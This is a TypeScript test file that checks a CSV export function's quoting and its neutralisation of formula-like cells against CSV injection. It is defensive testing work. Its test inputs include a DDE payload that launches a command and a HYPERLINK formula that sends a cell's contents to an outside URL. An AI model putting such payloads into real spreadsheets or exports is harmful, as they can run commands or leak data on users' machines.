import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { type CsvCell, textOfSpreadsheetCell, toCsv } from './csv';

/** A cell as toCsv writes it. */
const csvField = (cell: CsvCell) => toCsv([[cell]]).slice(0, -'\r\n'.length);

/** A cell's text as written to a CSV and read back by a CSV parser. */
const spreadsheetText = (text: string) => (parse(toCsv([[text]])) as string[][])[0]![0]!;

describe('CSV fields (RFC 4180)', () => {
  it('are quoted only when they hold a comma, a quote or a line break, with quotes doubled', () => {
    expect(csvField('Wiveliscombe')).toBe('Wiveliscombe');
    expect(csvField('Meal Prep, Hot')).toBe('"Meal Prep, Hot"');
    expect(csvField('The "Old" Mill')).toBe('"The ""Old"" Mill"');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
  });

  it('write blanks as nothing and numbers as they are', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(7.5)).toBe('7.5');
    expect(csvField(0)).toBe('0');
  });

  it('end each line with CRLF', () => {
    expect(toCsv([['a', 'b'], ['1', '2']])).toBe('a,b\r\n1,2\r\n');
  });
});

describe('formula-like cells (OWASP CSV injection)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+44 7700 900123', "'+44 7700 900123"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['-1+1', "'-1+1"],
    ['-2e5', "'-2e5"],
    ['\tTab first', "'\tTab first"],
    ['\0NUL first', "'\0NUL first"],
  ])('%j is written as text: %j', (cell, written) => {
    expect(csvField(cell)).toBe(written);
  });

  it('quotes a neutralised cell that needs quoting, the mark inside the quotes', () => {
    expect(csvField('=HYPERLINK("http://example.com/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""http://example.com/?""&A1,""Click"")"`);
    expect(csvField('\rCarriage return first')).toBe(`"'\rCarriage return first"`);
  });

  it('keeps a plain negative number a number, given as text or as a number', () => {
    expect(csvField('-3.5')).toBe('-3.5');
    expect(csvField(-3.5)).toBe('-3.5');
    expect(csvField('-12')).toBe('-12');
  });

  it('leaves normal text, and these characters later in a cell, alone', () => {
    expect(csvField('Ann Smith')).toBe('Ann Smith');
    expect(csvField('Smith-Jones')).toBe('Smith-Jones');
    expect(csvField('ann@example.com')).toBe('ann@example.com');
    expect(csvField('1+1=2')).toBe('1+1=2');
  });

  it('reads back, through a CSV parser, as the neutralised texts in their cells', () => {
    const rows = [
      ['Name', 'Notes', 'Hours'],
      ['=cmd|\' /C calc\'!A0', 'says "hello",\nthen leaves', -3.5],
      ['Zoë Ørsted', '@SUM(A1)', '+44'],
    ];
    expect(parse(toCsv(rows))).toEqual([
      ['Name', 'Notes', 'Hours'],
      ["'=cmd|' /C calc'!A0", 'says "hello",\nthen leaves', '-3.5'],
      ['Zoë Ørsted', "'@SUM(A1)", "'+44"],
    ]);
  });
});

it('reads back what it wrote: the apostrophe before formula-like text comes off, and only that one', () => {
  for (const text of ['=1+1', '+44 7700 900123', '@SUM(A1)', '\tindented', '-3.5', "'quoted already", 'plain']) {
    expect(textOfSpreadsheetCell(spreadsheetText(text))).toBe(text);
  }
  expect(textOfSpreadsheetCell("'plain")).toBe("'plain");
});
